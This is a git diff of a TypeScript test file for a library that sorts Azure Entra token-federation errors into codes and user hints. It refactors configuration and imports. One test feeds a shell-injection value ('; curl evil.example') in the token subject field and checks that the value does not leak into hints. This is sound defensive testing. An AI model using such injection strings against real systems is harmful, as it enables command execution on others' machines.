@@ -1,15 +1,14 @@
 import type { FederationErrorCode, PresentedToken } from '@credex/core';
 import type { RetryAdvice } from '@credex/core/internal';
+import { ResponseError } from '@credex/core/internal';
 import { describe, expect, it } from 'vitest';
-import { AADSTS_NUMBERS } from './aadsts-numbers.js';
-import { classifyAzureError } from './classify-azure-error.js';
-import { EntraResponseError } from './parse-entra-response.js';
+import { SERVER_CODES, classifyAzureError } from './classify-azure-error.js';
+import { azureConfiguration } from './options.js';
 
-const FACTS = {
+const configuration = azureConfiguration({
   tenantId: '11111111-2222-3333-4444-555555555555',
   clientId: 'aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee',
-  authorityHost: 'https://login.microsoftonline.com',
-};
+});
 const PRESENTED: PresentedToken = {
   iss: 'https://oidc.vercel.com/acme',
   aud: 'https://vercel.com/acme',
@@ -18,10 +17,10 @@ const PRESENTED: PresentedToken = {
   environment: 'production',
 };
 const classify = (error: unknown, presented: PresentedToken | undefined = PRESENTED) =>
-  classifyAzureError(error, presented, FACTS);
+  classifyAzureError(error, presented, configuration);
 
 const refusal = (status: number, body: unknown, headers: Record<string, string> = {}) =>
-  new EntraResponseError({ status, headers, body: typeof body === 'string' ? body : JSON.stringify(body) });
+  new ResponseError({ status, headers, body: typeof body === 'string' ? body : JSON.stringify(body) });
 const entra = (code: number, error = 'invalid_client', words = 'Something. Trace ID: 1') => ({
   error,
   error_description: `AADSTS${code}: ${words}`,
@@ -107,7 +106,7 @@ describe('classification by AADSTS number', () => {
     const sub = "x' ; curl evil.example #";
     const { hint } = classify(refusal(401, entra(700213, 'invalid_client', 'MARK')), { ...PRESENTED, sub });
     expect(hint).not.toMatch(/az ad app|evil|MARK/);
-    const { hint: bare } = classifyAzureError(refusal(401, entra(700213)), undefined, FACTS);
+    const { hint: bare } = classifyAzureError(refusal(401, entra(700213)), undefined, configuration);
     expect(bare).toMatch(
       /Compare the issuer, subject and audience of the token with those of the federated credential\.$/,
     );
@@ -125,7 +124,8 @@ describe('classification by AADSTS number', () => {
     }
   });
 
-  it.each(AADSTS_NUMBERS)('AADSTS%i has one code, whatever the OAuth error is', (number) => {
+  it.each(SERVER_CODES)('%s has one code, whatever the OAuth error is', (code) => {
+    const number = Number(code.slice('AADSTS'.length));
     const results = ['invalid_client', 'invalid_request', 'server_error'].map((error) =>
       classify(refusal(400, entra(number, error))),
     );
@@ -217,7 +217,7 @@ describe('a failure without a response', () => {
     expect(classify(new TypeError('fetch failed', { cause: new Error('x', { cause: socket }) }))).toEqual(
       bare,
     );
-    expect(bare.hint !== undefined).toBe(/CERT|VERIFY/.test(name));
+    expect(bare.hint !== undefined).toBe(/CERT|VERIFY|ENOTFOUND/.test(name));
   });
 
   it('is a timeout when a signal aborted the request', () => {
